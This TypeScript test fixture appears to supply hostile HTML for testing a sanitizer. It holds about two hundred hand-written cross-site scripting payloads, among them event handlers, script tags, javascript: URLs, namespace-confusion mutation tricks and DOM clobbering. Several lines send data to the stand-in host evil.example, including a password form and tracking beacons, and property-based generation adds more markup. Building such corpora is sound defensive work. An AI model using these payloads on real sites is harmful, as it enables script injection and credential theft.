import fc from 'fast-check';
import { HOSTILE_URLS } from './hostileUrls';

/** Calls `hurt()` when it is created. The name is long enough to find in what is left. */
const IMG = '<img src=x onerror=hurt()>';
const SCRIPT = '<script>hurt()</script>';

/** Known ways to run a script. Each list is one family. */
const events = [
  IMG,
  '<img src=x:x onerror\n=hurt()>',
  '<img/src=x/onerror=hurt()>',
  '<img src=x onerror="hurt()"//>',
  '<IMG SRC=x ONERROR=hurt()>',
  '<img src=`x`onerror=hurt()>',
  '<img \x00src=x \x0conerror=hurt()>',
  '<body onload=hurt()>text',
  '<body onpageshow=hurt()>',
  '<p onclick=hurt() onmouseover=hurt() onfocus=hurt() tabindex=1 autofocus>text</p>',
  '<details open ontoggle=hurt()><summary>text</summary></details>',
  '<video><source onerror=hurt()></video>',
  '<video src=x onerror=hurt()></video>',
  '<audio src=x onerror=hurt()></audio>',
  '<input onfocus=hurt() autofocus>',
  '<select onfocus=hurt() autofocus></select>',
  '<marquee onstart=hurt()>text</marquee>',
  '<div style="animation-name:x" onanimationstart=hurt()>text</div>',
  '<div onbeforetoggle=hurt() popover id=x>text</div><button popovertarget=x>text</button>',
  '<xss onafterscriptexecute=hurt() contenteditable>text</xss>',
  '<b onpointerrawupdate=hurt()>text</b>',
  '<table background="javascript:hurt()"><td background="javascript:hurt()">text</table>',
  '<link rel=stylesheet href=x onerror=hurt()>',
  '<object data=x onerror=hurt()></object>',
  '<iframe onload=hurt()></iframe>',
];

const scripts = [
  SCRIPT,
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/src=data:,hurt()></script>',
  '<script type=module>hurt()</script>',
  '<script\x20type="text/javascript">hurt();</script>',
  '<scr<script>ipt>hurt()</scr</script>ipt>',
  '<<script>hurt();//<</script>',
  '<script>hurt()',
  '<script><!--\nhurt()//--></script>',
  '<noembed><script>hurt()</script></noembed>',
  '<iframe srcdoc="<script>parent.hurt()</script>"></iframe>',
  '<iframe src="javascript:parent.hurt()"></iframe>',
  '<object data="javascript:hurt()"></object>',
  '<object data="data:text/html,<script>hurt()</script>"></object>',
  '<embed src="javascript:hurt()">',
  '<embed src="data:image/svg+xml,<svg onload=hurt()>">',
  '<frameset onload=hurt()><frame src="javascript:hurt()"></frameset>',
  '<applet code=x></applet>',
  '<template><script>hurt()</script></template>',
  `<template shadowrootmode=open>${IMG}</template>`,
  `<div><template shadowrootmode=closed>${SCRIPT}</template></div>`,
];

const pages = [
  '<meta http-equiv=refresh content="0;url=javascript:hurt()">',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  '<meta charset=utf-7>+ADw-script+AD4-hurt()+ADw-/script+AD4-',
  '<base href="https://evil.example/"><a href="x">text</a>',
  '<base target="hurt"><a href="/m/help">text</a>',
  '<link rel=import href=x>',
  '<link rel=manifest href="https://evil.example">',
  '<style>@import "https://evil.example/x.css";</style>text',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">text</p>',
  '<p style="width:expression(hurt())">text</p>',
  '<form action="https://evil.example"><input name=password><button>text</button></form>',
  '<form><button formaction="javascript:hurt()">text</button></form>',
  '<isindex action="javascript:hurt()" type=image>',
  '<input type=image src=x formaction="javascript:hurt()">',
  '<a href="/m/help" ping="https://evil.example">text</a>',
  '<a href="/m/help" target=hurt>text</a>',
  '<a href="/m/help" download=x.exe>text</a>',
  '<map name=x><area href="javascript:hurt()"></map><img usemap=#x src=x>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x 2x" src="/art/x.webp">',
  '<picture><source srcset="https://evil.example/x"><img src="/x.webp"></picture>',
  '<video poster="https://evil.example/x"></video>',
  '<dialog open>text</dialog>',
  '<slot name=x>text</slot>',
  '<portal src="https://evil.example"></portal>',
  '<bgsound src="javascript:hurt()">',
  '<keygen autofocus onfocus=hurt()>',
];

/** Elements whose names or ids would hide properties of the document. */
const names = [
  '<form id=test><input name=attributes><input name=parentNode></form>',
  '<form><input name=childNodes></form>',
  '<form name=body></form>',
  '<img name=getElementById><img name=cookie>',
  '<a id=hurt></a><a id=hurt name=url href="https://evil.example">text</a>',
  '<p id=root class="modal dialog">text</p>',
  '<iframe name=defaultView></iframe>',
  ...['constructor', 'hasOwnProperty', '__proto__', 'toString', 'valueOf', 'prototype'].map(
    (name) => `<${name} ${name}=x>text</${name}>`,
  ),
];

/** Text that becomes an element in another namespace or at a second parsing. */
const mutations = [
  `<svg><p><style><g title="</style>${IMG}">`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<math><mi><xmp><a title="</xmp>${IMG}">`,
  `<math><mtext><table><mglyph><style><!--</style>${IMG}-->`,
  `<math><mtext><table><mglyph><style><math>${IMG}`,
  `<math><mtext><table><mglyph><svg><mtext><style><path id="</style>${IMG}">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${IMG}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${IMG}"></style></h1>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--&gt;${IMG}">`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html">${SCRIPT}</annotation-xml></math>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><desc>${IMG}</desc></svg>`,
  `<svg><title>${SCRIPT}</title></svg>`,
  `<svg><style>${IMG}</style></svg>`,
  '<svg><script>hurt()</script></svg>',
  '<svg><script href="data:,hurt()"/></svg>',
  '<svg onload=hurt()>',
  '<svg/onload=hurt()//',
  '<svg><a xlink:href="javascript:hurt()"><text y=20>text</text></a></svg>',
  '<svg><animate onbegin=hurt() attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values="javascript:hurt()"/><text>text</text></a></svg>',
  '<svg><set attributeName=href to="javascript:hurt()"></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hurt()>#x"/></svg>',
  '<svg><image href="https://evil.example/x"></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>hurt()</script>"></foreignObject></svg>',
  '<svg><![CDATA[><img src=x onerror=hurt()>]]></svg>',
  '<math href="javascript:hurt()">text</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:hurt()">text</maction></math>',
  '<math><mi//xlink:href="data:x,<script>hurt()</script>">',
  `<noscript><p title="</noscript>${IMG}"></noscript>`,
  `<noframes><p title="</noframes>${IMG}"></noframes>`,
  `<noembed><p title="</noembed>${IMG}"></noembed>`,
  `<iframe><p title="</iframe>${IMG}"></iframe>`,
  `<textarea><p title="</textarea>${IMG}"></textarea>`,
  `<title><p title="</title>${IMG}"></title>`,
  `<style><p title="</style>${IMG}"></style>`,
  `<xmp><p title="</xmp>${IMG}"></xmp>`,
  `<listing>&lt;img src=x onerror=hurt()&gt;</listing>`,
  `<plaintext>${IMG}`,
  `<select><style></select>${IMG}</style></select>`,
  `<select><option><style></option></select><b>${IMG}</style></option></select>`,
  `<option><p title="</option>${IMG}"></option>`,
  `<table><tr><td><style></table>${IMG}</style>`,
  `<table>${IMG}<tr><td>text</td></tr></table>`,
  `<table><caption><svg><style></caption>${IMG}</style></svg></table>`,
  `<!--><img src=x onerror=hurt()>-->`,
  `<!---!>${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<? ${IMG} ?>`,
  `<![CDATA[${IMG}]]>`,
  `<!DOCTYPE x [<!ENTITY y "${SCRIPT}">]>&y;`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">hurt()</x:script>`,
  `<html xmlns:x=urn:x><x:p onclick=hurt()>text</x:p>`,
  `<p title="&quot;&gt;${IMG}">text</p>`,
  `<p title='\`'>\`${IMG}</p>`,
  '&lt;img src=x onerror=hurt()&gt;',
  '&amp;lt;script&amp;gt;hurt()&amp;lt;/script&amp;gt;',
  '<a <img src=x onerror=hurt()>text</a>',
  '<a title="<img src=x onerror=hurt()>">text</a>',
  '<img alt="--><img src=x onerror=hurt()>" src=x>',
  '<td colspan="1 onclick=hurt()"">text</td>',
  `<table><td colspan='"><img src=x onerror=hurt()>'>text</table>`,
  `<th scope="</th>${IMG}">text</th>`,
  `${'<div>'.repeat(600)}${IMG}`,
  `${'<b>'.repeat(600)}<svg><style><a title="</style>${IMG}">`,
  `${'<form>'.repeat(3)}<math><mtext></form><form><mglyph><style></math>${IMG}`,
];

const links = HOSTILE_URLS.flatMap((url) => {
  const value = url.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return [`<a href="${value}">text</a>`, `<img src="${value}" alt="text">`];
});

const written = [...events, ...scripts, ...pages, ...names, ...mutations, ...links];

const TAGS =
  'p b table td tr ul li a img span div blockquote figure h2 script style svg math mtext mi mglyph annotation-xml foreignObject desc title template noscript iframe form input select option textarea caption plaintext xmp noembed listing base meta link object embed frameset body html head marquee details video source isindex x-own constructor __proto__ image';
const ATTRIBUTES =
  'onerror onload onclick ONFOCUS href src alt colspan scope srcset srcdoc style class id name action formaction xlink:href xmlns is slot title target background encoding href.x';

const tag = fc.constantFrom(...TAGS.split(' '));
const value = fc.constantFrom(
  ...[
    'hurt()',
    'x',
    '1',
    'text/html',
    '_self',
    'http://www.w3.org/2000/svg',
    '"',
    '`',
    '">',
    '-->',
  ],
  ...[`</style>${IMG}`, `</title>${IMG}`, `</noscript>${IMG}`, `--&gt;${IMG}`, `</mtext>${SCRIPT}`],
  ...HOSTILE_URLS,
);
const attribute = fc
  .tuple(fc.constantFrom(...ATTRIBUTES.split(' ')), value, fc.constantFrom('"', "'", ''))
  .map(([name, text, quote]) => ` ${name}=${quote}${text}${quote}`);
const text = fc.constantFrom(
  ...['text', '<!--', '-->', '<![CDATA[', ']]>', '&lt;', '\0', '</p>', '</style>', '</table>'],
  ...['</svg>', '</math>', '</form>', '<', '>', '"', IMG, SCRIPT, '</template>', '<!doctype html>'],
);

/** A piece of HTML: text, or an element that may stay open. */
const { piece } = fc.letrec<{ piece: string }>((tie) => ({
  piece: fc.oneof(
    { maxDepth: 5, withCrossShrink: true },
    text,
    fc
      .record({
        name: tag,
        attributes: fc.array(attribute, { maxLength: 3 }),
        children: fc.array(tie('piece'), { maxLength: 4 }),
        isClosed: fc.boolean(),
      })
      .map(
        ({ name, attributes, children, isClosed }) =>
          `<${name}${attributes.join('')}>${children.join('')}${isClosed ? `</${name}>` : ''}`,
      ),
  ),
}));

const GENERATED = 600;
/** The same ones in each run. */
const SEED = 2026;
const markup = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(''));

/** Written and generated HTML that tries to run scripts, to leave the site or to load something. */
export const HOSTILE_HTML: readonly string[] = [
  ...written,
  ...fc.sample(markup, { seed: SEED, numRuns: GENERATED }),
];
